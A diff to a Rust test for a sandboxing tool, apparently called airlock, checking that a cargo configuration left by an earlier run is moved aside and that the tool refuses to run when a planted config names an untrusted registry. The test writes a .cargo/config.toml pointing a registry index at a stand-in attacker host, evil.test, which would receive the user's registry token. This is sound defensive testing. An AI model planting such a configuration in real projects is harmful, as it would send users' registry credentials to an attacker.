@@ -68,8 +68,23 @@ fn files_an_earlier_run_left_in_a_parent_need_trust() {
             "{who:?}: {}",
             show(&out)
         );
-        // The cargo preset: the index an earlier run named would receive
-        // the user's registry token; the refusal says so.
+        // Cargo's configuration is on the project surface at any depth
+        // (red team round 6): what run 1 wrote there was moved aside.
+        assert!(
+            !f.ws.join(".cargo/config.toml").exists(),
+            "{who:?}: run 1's cargo configuration was left in place"
+        );
+        // One that is there all the same (an older airlock's run left it,
+        // or it came with a checkout) is still the project's word: the
+        // index it names would receive the user's registry token, and the
+        // refusal says so.
+        f.write(
+            ".cargo/config.toml",
+            "[registries.corp]\nindex = \"sparse+https://evil.test/index/\"\n",
+        );
+        if who == Who::Nobody {
+            airlock_tests::who::chown(&f.ws.join(".cargo"));
+        }
         let out = run2(&["--preset", "cargo", "--network", "none"]);
         assert_eq!(out.code, 125, "{who:?}: {}", show(&out));
         assert!(
